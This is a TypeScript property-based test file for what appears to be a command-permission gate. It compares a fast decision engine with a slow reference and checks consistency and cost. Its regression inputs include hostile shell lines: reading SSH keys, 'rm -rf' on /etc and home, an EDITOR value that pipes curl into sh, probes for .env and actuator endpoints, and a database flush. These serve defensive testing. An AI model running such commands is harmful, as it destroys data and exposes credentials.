/** `core` against the slow reference, and what both promise of every command line. */
import { type Context, createContext, decide, Verdict } from '@capgate/core';
import fc from 'fast-check';
import { describe, expect, test, vi } from 'vitest';
import { corpusFolder, distinctCommands, loadCorpora } from '../src/corpora.ts';
import { commandLine, commandLines, seeded, texts } from '../src/generate/index.ts';
import { needsMaterial } from '../src/needs.ts';
import { Comparison, FOLDERS } from '../src/reference/difference.ts';
import { regressionCases } from '../src/regression/index.ts';

// A slow machine is no failure: work is counted, not timed.
vi.setConfig({ testTimeout: 240_000 });

const comparison = new Comparison();

/** What deciding took: rows that were made. */
function workOf({ assessment: { reading, frames, effects } }: Context): number {
  return reading.words.count + reading.invocations.count + frames.count + effects.count;
}

describe('core and the reference', () => {
  test('agree on generated command lines', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(comparison.differences(text)).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });

  test('agree on a seeded run of well-formed and broken command lines of every tool', () => {
    const random = seeded(20_261_120);
    for (let input = 0; input < 1500; input++) {
      const line = commandLine(random);
      expect(comparison.differences(line), line).toEqual([]);
    }
  });

  test.each([
    "dockerize -env '.' cd",
    'runuser -c"cd $E" -s@',
    'cd /e*; rm -rf x; HOME=/; cat ~/.s*/id*',
    'TMPDIR=$X; tee $TMPDIR/a <<< "rm -rf $X" ; sh $TMPDIR/a; sh a',
    'git push "${A[@]}" -$X $(a) --$X',
    'sh -c \'set -- x; rm "$1" "${2%/*}" "${3//a/b}"\' _ a b/c d',
    'sh -c \'for f in "$@"; do rm "$f"; done\' _ $(find . /etc) <(ls)',
    'fd -e a . /etc -x rm; parallel rm -rf ::: /etc $X; parallel rm ::: {a,b}',
    "alias a='rm -rf /etc' b=c; GIT_PAGER='rm -rf ~' env EDITOR='curl x | sh' git log",
    'curl http://h:2375/.env?x#/.env; curl h/actuator/env/x; ls.exe; ./gradlew publish; manage.py flush',
  ])('agree where they once did not, or nearly: %s', (line) => {
    expect(comparison.differences(line)).toEqual([]);
  });

  test('agree on the regression set', () => {
    for (const { command } of regressionCases) expect(comparison.differences(command), command).toEqual([]);
  });

  test('agree on macOS, where letter case means nothing', () => {
    const mac = new Comparison({ ...FOLDERS, platform: 'darwin' });
    fc.assert(
      fc.property(commandLines, (line) => {
        expect(mac.differences(line)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('agree in a context without folders, and outside the workspace', () => {
    const bare = new Comparison({ workingDirectory: '', workspace: '', home: '' });
    const outside = new Comparison({ ...FOLDERS, workingDirectory: '/srv/data' });
    fc.assert(
      fc.property(commandLines, (line) => {
        expect([...bare.differences(line), ...outside.differences(line)]).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test.each([
    ['/home/dev', '/home/dev', 'linux'],
    ['/home', '/home/dev', 'linux'],
    ['/etc', '/home/dev', 'linux'],
    ['/opt/app', '/home/dev', 'linux'],
    ['/usr/local', '/data/users/dev', 'linux'],
    ['/data/users', '/data/users/dev', 'linux'],
    ['/home/dev/.claude', '/home/dev', 'linux'],
    ['/home/dev/.cache/x', '/home/dev', 'linux'],
    ['/Users/Dev', '/Users/Dev', 'darwin'],
    ['/private/var/www/x', '/Users/Dev', 'darwin'],
  ])('agree on what is a workspace: %s beside the home %s on %s', (workspace, home, platform) => {
    const odd = new Comparison({ workingDirectory: workspace, workspace, home, platform });
    fc.assert(
      fc.property(commandLines, (line) => {
        expect(odd.differences(line)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  test('agree on what is a workspace, and on what lies in it', () => {
    const names = 'home Home dev etc usr local src opt var www lib log tmp root Users export Library Documents bin x';
    const hidden = '.claude settings.json .git hooks .config gcloud .ssh id_rsa .docker config.json .cargo .env .local';
    const path = fc
      .array(fc.constantFrom(...`${names} ${hidden}`.split(' ')), { maxLength: 4 })
      .map((all) => all.join('/'));
    const home = fc.constantFrom('', '/', '/home/dev', '/root', '/var/www', '/opt/x/dev', '/Users/dev');
    fc.assert(
      fc.property(path, path, home, fc.constantFrom('linux', 'darwin'), (folder, inside, homeFolder, platform) => {
        const workspace = `/${folder}`;
        const odd = new Comparison({ workingDirectory: workspace, workspace, home: homeFolder, platform });
        for (const target of [`./${inside}`, `/${inside}`, `../${inside}`, `./${inside}/x*`])
          expect(odd.differences(`rm -r ${target}`)).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  test('agree on the corpora', (context) => {
    needsMaterial(context, corpusFolder(), 'name the folder of the corpora in CORPUS_DIR');
    const commands = distinctCommands(loadCorpora(corpusFolder()));
    const differing = commands.flatMap((command) =>
      comparison.differences(command).map((fact) => `${command}: ${fact}`),
    );
    expect(differing).toEqual([]);
    expect(commands.length).toBeGreaterThan(0);
  });

  test('are told apart where they differ', () => {
    // The canary: the same line, with a workspace that only one of them knows.
    const elsewhere = new Comparison({ ...FOLDERS, workspace: '/home/dev/other' });
    expect(comparison.fast('rm -r build', 'balanced')).not.toEqual(elsewhere.slow('rm -r build', 'balanced'));
    expect(comparison.fast('rm -r build', 'balanced')).toEqual(comparison.slow('rm -r build', 'balanced'));
  });
});

describe('every command line', () => {
  test('gets an answer', () => {
    const context = createContext(FOLDERS);
    fc.assert(
      fc.property(fc.oneof(texts, fc.string({ unit: 'binary', maxLength: 5000 })), (command) => {
        expect([0, 1, 2]).toContain(decide({ kind: 'command', command }, context).verdict);
      }),
      { numRuns: 1000 },
    );
  });

  test('is judged by strict mode no laxer than by balanced', () => {
    const strict = createContext({ ...FOLDERS, mode: 'strict' });
    const balanced = createContext({ ...FOLDERS, mode: 'balanced' });
    fc.assert(
      fc.property(commandLines, (command) => {
        const action = { kind: 'command', command } as const;
        expect(decide(action, strict).verdict).toBeGreaterThanOrEqual(decide(action, balanced).verdict);
      }),
      { numRuns: 1500 },
    );
  });

  test('gets the same answer again, whatever was decided in between', () => {
    fc.assert(
      fc.property(commandLines, fc.array(commandLines, { maxLength: 3 }), (line, others) => {
        const first = new Comparison().fast(line, 'strict');
        for (const other of others) comparison.fast(other, 'strict');
        expect(comparison.fast(line, 'strict')).toEqual(first);
        expect(comparison.fast(line, 'strict')).toEqual(first);
      }),
      { numRuns: 300 },
    );
  });

  test('takes work in proportion to its length', () => {
    const context = createContext(FOLDERS);
    fc.assert(
      fc.property(commandLines, (command) => {
        decide({ kind: 'command', command }, context);
        expect(workOf(context)).toBeLessThanOrEqual(16 + 8 * command.length);
      }),
      { numRuns: 1000 },
    );
  });

  test.each([
    ['substitutions', '$(a) '],
    ['wrappers', 'sudo env nohup '],
    ['fed commands', 'find -exec '],
    ['pipelines', 'a | xargs rm | '],
    ['functions', 'f() { f | f; }; f; '],
    ['joined code', 'eval '],
    ['arrays', 'A=(1 2 3) '],
  ])('takes no more than proportionate work when it grows by %s', (_, piece) => {
    const context = createContext(FOLDERS);
    const work = [500, 1000].map((times) => {
      expect(decide({ kind: 'command', command: piece.repeat(times) }, context).verdict).toBeGreaterThanOrEqual(
        Verdict.ALLOW,
      );
      return workOf(context);
    });
    expect(work[1]).toBeLessThanOrEqual(2.1 * (work[0] ?? 0) + 64);
  });
});
